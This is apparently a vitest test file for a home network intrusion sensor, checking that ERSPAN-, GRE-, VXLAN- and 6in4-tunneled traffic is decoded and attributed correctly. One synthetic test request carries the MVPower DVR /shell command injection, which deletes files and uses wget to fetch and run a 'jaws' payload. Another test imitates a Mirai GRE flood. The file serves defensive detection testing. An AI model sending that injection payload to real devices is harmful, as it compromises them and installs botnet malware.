// Tunnels through the whole pipeline: events name the inner devices and addresses (a real VXLAN
// capture; a synthetic ERSPAN-mirrored inbound exploit), a home device's own GRE flood stays GRE for
// mirai.flood.gre, and sensor_stats counts tunneled and too-deep packets.
import { expect, it, describe } from 'vitest';
import type { Frame } from '../../../sensor/capture/frame.js';
import { openCaptureFile } from '../../../sensor/capture/file.js';
import type { WaakhondEvent } from '../../../sensor/events.js';
import { Pipeline } from '../../../sensor/pipeline.js';
import { httpRequest, tcpFrame, TCP } from '../../gen/packets.js';
import { GRE_PROTO, wrapErspanII, wrapGre, wrapGreTeb, wrapIpv4, wrapVxlan } from '../../gen/tunnel.js';
import { describeShared, pcap } from '../../helpers/shared.js';
import { hex } from './fixtures/tunnel-frames.js';

function run(frames: Uint8Array[]): WaakhondEvent[] {
  const all: WaakhondEvent[] = [];
  const pipeline = new Pipeline({ sinks: [(e) => all.push(e)] });
  pipeline.push(frames.map((data, i): Frame => ({ ts: 1_700_000_000_000_000 + i * 1000, len: data.length, data, linktype: 1, iface: 0 })));
  pipeline.finish();
  return all;
}

function ofType<T extends WaakhondEvent['type']>(all: WaakhondEvent[], type: T): Extract<WaakhondEvent, { type: T }>[] {
  return all.filter((e) => e.type === type) as Extract<WaakhondEvent, { type: T }>[];
}

const DVR = { mac: '00:12:12:aa:bb:cc', ip: '192.168.1.20' };
const ROUTER = { mac: 'f4:ec:38:11:22:33' };
const ATTACKER = '203.0.113.66';
/** The outer packets of the mirror session: switch 10.255.0.1 -> collector 10.255.0.2 (both on the home's private range). */
const SWITCH_MAC = '00:1b:54:00:00:01';

describe('tunnels through the pipeline (synthetic: test/gen/tunnel.ts)', () => {
  it('an inbound JAWS/MVPower exploit mirrored as ERSPAN II: events name the DVR and the attacker, not the mirror', () => {
    // The MVPower DVR TV-7104HE /shell command injection (Exploit-DB 41471) as JAWS-era bots send it.
    const get = httpRequest('GET', '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.5/jaws;sh+/tmp/jaws', { 'User-Agent': 'Hello, World', Host: `${DVR.ip}:80` });
    const c = { sport: 41000, dport: 80 };
    const inner = [
      tcpFrame(ROUTER.mac, DVR.mac, ATTACKER, DVR.ip, { ...c, seq: 100, flags: TCP.SYN }),
      tcpFrame(DVR.mac, ROUTER.mac, DVR.ip, ATTACKER, { sport: 80, dport: 41000, seq: 500, ack: 101, flags: TCP.SYN | TCP.ACK }),
      tcpFrame(ROUTER.mac, DVR.mac, ATTACKER, DVR.ip, { ...c, seq: 101, ack: 501, flags: TCP.ACK }),
      tcpFrame(ROUTER.mac, DVR.mac, ATTACKER, DVR.ip, { ...c, seq: 101, ack: 501, flags: TCP.ACK | TCP.PSH }, get),
    ];
    const all = run(inner.map((f, i) => wrapErspanII(f, { seq: i + 1 })));
    const http = ofType(all, 'http_request');
    expect(http).toHaveLength(1);
    expect(http[0]).toMatchObject({ src_ip: ATTACKER, dst_ip: DVR.ip, dst_mac: DVR.mac, src_mac: ROUTER.mac, dst_port: 80 });
    expect(http[0]!.uri).toContain('/shell?cd+/tmp');
    const conn = ofType(all, 'conn');
    expect(conn.map((e) => [e.src_ip, e.dst_ip, e.dst_port, e.dst_mac])).toEqual([[ATTACKER, DVR.ip, 80, DVR.mac]]);
    // Nothing is attributed to the mirroring switch or the collector.
    const json = JSON.stringify(all);
    expect(json).not.toContain(SWITCH_MAC);
    expect(json).not.toContain('10.255.0.');
    expect(ofType(all, 'traffic').map((t) => t.mac)).toContain(DVR.mac);
    const stats = ofType(all, 'sensor_stats').at(-1)!;
    expect([stats.packets, stats.tunneled, stats.tunnel_too_deep, stats.malformed]).toEqual([4, 4, 0, 0]);
  });

  it('a home camera\'s GRE flood to the internet stays GRE: out_gre counts it, its forged inner frames make no devices', () => {
    const camera = { mac: 'c0:56:e3:17:8a:4d', ip: '192.168.178.40' };
    const target = '198.51.100.77';
    // Mirai attack_gre_eth: GRE-TEB with an inner Ethernet frame of made-up MACs; attack_gre_ip: GRE carrying IPv4/UDP.
    const forged = tcpFrame('02:de:ad:be:ef:01', '02:de:ad:be:ef:02', '10.9.9.9', target, { sport: 1, dport: 2, seq: 3, flags: TCP.ACK });
    const floods = Array.from({ length: 20 }, (_, i) => i % 2 === 0
      ? wrapGreTeb(forged, { src: camera.ip, dst: target, srcMac: camera.mac, dstMac: ROUTER.mac, id: i })
      : wrapGre(forged.subarray(14), GRE_PROTO.IPV4, { src: camera.ip, dst: target, srcMac: camera.mac, dstMac: ROUTER.mac, id: i }));
    const all = run(floods);
    const traffic = ofType(all, 'traffic');
    expect(traffic.map((t) => t.mac)).toEqual([camera.mac]);
    expect(traffic[0]!.out_gre).toBe(20);
    expect(JSON.stringify(all)).not.toContain('02:de:ad:be:ef');
    const stats = ofType(all, 'sensor_stats').at(-1)!;
    expect([stats.tunneled, stats.tunnel_too_deep]).toEqual([0, 0]);
  });

  it('ERSPAN is a mirror session wherever it goes: unwrapped even from a home address to the internet (a cloud collector)', () => {
    const syn = tcpFrame(ROUTER.mac, DVR.mac, ATTACKER, DVR.ip, { sport: 41000, dport: 80, seq: 1, flags: TCP.SYN });
    const out = { src: '192.168.1.2', dst: '198.51.100.200' };
    const all = run([wrapErspanII(syn, out), wrapGreTeb(syn, out)]);
    const stats = ofType(all, 'sensor_stats').at(-1)!;
    // The ERSPAN copy is unwrapped; the same frame in plain GRE-TEB from a home address stays GRE (a flood's shape).
    expect(stats.tunneled).toBe(1);
    expect(ofType(all, 'traffic').find((t) => t.ip === '192.168.1.2')?.out_gre).toBe(1);
  });

  it('only GRE stays wrapped: 6in4 from a home tunnel endpoint (a Pi with a tunnel broker) shows the home\'s IPv6 traffic', () => {
    const v6 = hex(`
      60000000 0008 11 40                 # IPv6, payload 8, UDP, hop limit 64
      2001 0470 001f 0000 0000 0000 0000 000a   # src 2001:470:1f::a (the tunnel broker's /64 for the home)
      2a00 1450 0400 0800 0000 0000 0000 200e   # dst 2a00:1450:400:800::200e
      3039 0035 0008 0000                 # UDP 12345 -> 53, length 8
    `);
    const all = run([wrapIpv4(41, v6, { src: '192.168.1.2', dst: '216.66.84.46' })]);
    expect(ofType(all, 'sensor_stats').at(-1)!.tunneled).toBe(1);
    expect(ofType(all, 'conn').map((c) => [c.src_ip, c.dst_ip, c.dst_port])).toEqual([['2001:470:1f::a', '2a00:1450:400:800::200e', 53]]);
  });

  it('counts packets nested deeper than the decoder unwraps', () => {
    let deep = tcpFrame(ROUTER.mac, DVR.mac, ATTACKER, DVR.ip, { sport: 1, dport: 80, seq: 1, flags: TCP.SYN });
    for (let i = 0; i < 6; i++) deep = i % 2 === 0 ? wrapVxlan(deep) : wrapGreTeb(deep);
    const all = run([deep, wrapVxlan(tcpFrame(ROUTER.mac, DVR.mac, ATTACKER, DVR.ip, { sport: 1, dport: 80, seq: 1, flags: TCP.SYN }))]);
    const stats = ofType(all, 'sensor_stats').at(-1)!;
    expect([stats.packets, stats.tunneled, stats.tunnel_too_deep, stats.malformed]).toEqual([2, 2, 1, 0]);
  });
});

describeShared('tunnels through the pipeline (real capture)', () => {
  it('ndpi vxlan.pcap: DNS, TLS and connections of the inner hosts; every packet counted as tunneled', async () => {
    const all: WaakhondEvent[] = [];
    const pipeline = new Pipeline({ sinks: [(e) => all.push(e)] });
    for await (const batch of openCaptureFile(pcap('ndpi/pcap/vxlan.pcap'))) pipeline.push(batch);
    pipeline.finish();
    // tshark (inner layers): 10.10.20.4 asks 8.8.8.8, then talks TLS with 157.240.224.35 (the VTEPs are 192.168.22.4/.5).
    const dns = ofType(all, 'dns');
    expect(dns.length).toBeGreaterThan(0);
    expect(new Set(dns.map((d) => `${d.src_ip}>${d.dst_ip}`))).toEqual(new Set(['10.10.20.4>8.8.8.8', '8.8.8.8>10.10.20.4']));
    expect(ofType(all, 'tls_client_hello').every((t) => t.src_ip === '10.10.20.4' && t.dst_ip === '157.240.224.35')).toBe(true);
    expect(ofType(all, 'tls_client_hello').length).toBeGreaterThan(0);
    const peers = new Set(ofType(all, 'conn').flatMap((e) => [e.src_ip, e.dst_ip]));
    expect(peers.has('10.10.20.4')).toBe(true);
    expect([...peers].some((ip) => ip.startsWith('192.168.22.'))).toBe(false);
    expect(pipeline.stats.tunneled).toBe(127);
    expect(ofType(all, 'sensor_stats').at(-1)!.tunneled).toBe(127);
  });
});
